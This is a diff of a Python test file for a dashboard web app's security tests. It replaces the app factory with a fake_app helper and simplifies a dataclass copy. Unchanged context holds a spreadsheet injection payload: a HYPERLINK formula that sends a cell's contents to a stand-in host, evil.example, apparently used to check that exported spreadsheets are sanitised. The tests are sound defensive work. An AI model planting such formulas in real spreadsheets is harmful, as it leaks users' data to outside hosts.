@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+import dataclasses
 import io
 import threading
 from datetime import timedelta
@@ -16,11 +17,10 @@ from openpyxl import load_workbook
 from sqlmodel import col, func, select
 
 from dashboards import auth
-from dashboards.app import create_app
 from dashboards.settings import DashboardSettings
 from storage.models import AuditLog, Flag, Message, TicketEvent
 from tests.dashboards.conftest import CSRF_RE, SECRET, Dash
-from tests.dashboards.fakes import FakeRuleBench, RecordingBroadcaster, RecordingTicketActions
+from tests.dashboards.fakes import FakeRuleBench, fake_app
 from tests.dashboards.seed import PASSWORD, T0
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
@@ -158,18 +158,16 @@ async def test_one_address_trying_many_accounts_is_slowed_down(dash: Dash) -> No
 def _app(
     dash: Dash, *, settings: DashboardSettings | None = None, bench: FakeRuleBench | None = None
 ) -> web.Application:
-    return create_app(
-        session_factory=dash.factory,
+    return fake_app(
+        dash.factory,
         settings=settings or DashboardSettings(session_minutes=60, secret=SECRET),
-        ticket_actions=RecordingTicketActions(),
-        broadcaster=RecordingBroadcaster(),
         rule_bench=bench or FakeRuleBench(),
         clock=dash.clock,
     )
 
 
 def _like(dash: Dash, client: TestClient) -> Dash:
-    return Dash(client, dash.factory, dash.world, dash.clock, dash.actions, dash.broadcaster, dash.bench)
+    return dataclasses.replace(dash, client=client, csrf="")
 
 
 async def test_a_hundred_concurrent_logins_give_no_server_error(dash: Dash) -> None:
